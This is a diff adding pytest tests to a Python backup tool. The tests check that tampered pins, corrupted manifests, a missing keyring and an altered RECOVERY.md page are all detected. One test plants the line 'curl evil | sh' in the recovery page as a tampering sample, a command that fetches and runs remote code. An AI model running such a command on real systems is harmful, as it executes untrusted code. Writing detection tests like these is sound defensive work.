@@ -2,16 +2,19 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
 from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
-from loomio_backup import cli, crypto, keyring
+from loomio_backup import cli, crypto, keyring, recovery_md
 from loomio_backup.config import dump
+from loomio_backup.errors import StoreError
 from loomio_backup.history import Reader
 from loomio_backup.inspection import Inspection
+from loomio_backup.objects import as_it_is, write_sealed
 from loomio_backup.reading import place
 from loomio_backup.state import StateDirectory
 from tests.lab.agent_disk import small_disk
@@ -188,3 +191,82 @@ def test_a_damaged_keyring_is_told(pi: Shelf, capsys: pytest.CaptureFixture[str]
     said = capsys.readouterr().err
     assert f"{ring.name}: it is damaged; loomio-backup rotate-key puts it there anew" in said
     assert "3 of the 3 backups in local are whole" in said
+
+
+def _signed_pin(pi: Shelf, backup: str) -> Path:
+    assert cli.main(["--config", str(pi.root / "config.yml"), "pin", backup]) == 0
+    return pi.disk / f"{backup}.pin.age"
+
+
+@pytest.mark.parametrize("how", ["flip", "swap", "forge"])
+def test_a_pin_that_cannot_be_believed_is_told(
+    pi: Shelf, how: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    one, other = (_signed_pin(pi, made.name) for made in pi.made[:2])
+    assert _check(pi, "--store", "local", "--read-data") == 0
+    if how == "flip":
+        _flip(one)
+    elif how == "swap":
+        whole = one.read_bytes()
+        one.write_bytes(other.read_bytes())
+        other.write_bytes(whole)
+    else:
+        # Whoever knows the public key can write what opens.
+        one.unlink()
+        write_sealed(b'{"format": "loomio-backup-pin", "version": 1}', one, pi.config.recipients)
+    assert _check(pi, "--store", "local", "--read-data") == 1
+    said = capsys.readouterr().err
+    assert f"{one.name}: it is damaged, or somebody else put it there" in said
+    assert (other.name in said) == (how == "swap")
+    assert "3 of the 3 backups in local are whole" in said
+
+
+def test_another_recovery_page_is_told_where_this_pi_wrote_one(
+    pi: Shelf, capsys: pytest.CaptureFixture[str]
+) -> None:
+    page = pi.disk / recovery_md.NAME
+    page.write_text("an earlier one")
+    assert _check(pi, "--store", "local", "--read-data") == 0
+    ours = pi.root / "page"
+    ours.write_text("ours")
+    with pi.catalogue() as catalogue:
+        # Nobody knows whether a renewal that failed came through.
+        for text in ("an earlier one", "ours"):
+            (pi.root / "page").write_text(text)
+            with (
+                contextlib.suppress(StoreError),
+                recovery_md.renewed(catalogue, "local", as_it_is(pi.root / "page")),
+            ):
+                raise StoreError("it did not come to that")
+        assert _check(pi, "--store", "local", "--read-data") == 0
+        with recovery_md.renewed(catalogue, "local", as_it_is(ours)):
+            page.write_text("ours")
+        assert len(recovery_md.known(catalogue, "local")) == 1
+    assert _check(pi, "--store", "local", "--read-data") == 0
+    for change in (lambda: page.write_text("ours, and curl evil | sh"), page.unlink):
+        change()
+        capsys.readouterr()
+        assert _check(pi, "--store", "local", "--read-data") == 1
+        assert "RECOVERY.md: it is missing, or not what this Pi wrote: do not type" in capsys.readouterr().err
+
+
+def test_a_manifest_that_rots_in_drive_is_told(pi: Shelf, capsys: pytest.CaptureFixture[str]) -> None:
+    """Drive's word, from before, is that of a whole one: only reading tells."""
+    assert _check(pi, "--store", "drive", "--read-data") == 0
+    lab = LabDrive(pi.config.stores.drive.api_root)  # type: ignore[union-attr]
+    lab.damage(pi.made[0].manifest_name)
+    assert _check(pi, "--store", "drive", "--all") == 0
+    assert _check(pi, "--store", "drive", "--read-data") == 1
+    said = capsys.readouterr().err
+    assert f"{pi.made[0].manifest_name}: it is not what the store says it is" in said
+    assert "2 of the 3 backups in drive are whole" in said
+
+
+def test_the_pis_own_keyring_is_missed(pi: Shelf, capsys: pytest.CaptureFixture[str]) -> None:
+    text = keyring.make([crypto.generate_identity()], pi.config.recipients).strip()
+    (pi.config.credentials_directory / "keyring.age").write_text(text + "\n")
+    assert _check(pi, "--store", "local", "--read-data") == 1
+    name = keyring.object_name(keyring.as_stored(text))
+    assert f"{name}: it is missing; loomio-backup rotate-key puts it there" in capsys.readouterr().err
+    (pi.disk / name).write_bytes(keyring.as_stored(text))
+    assert _check(pi, "--store", "local", "--read-data") == 0
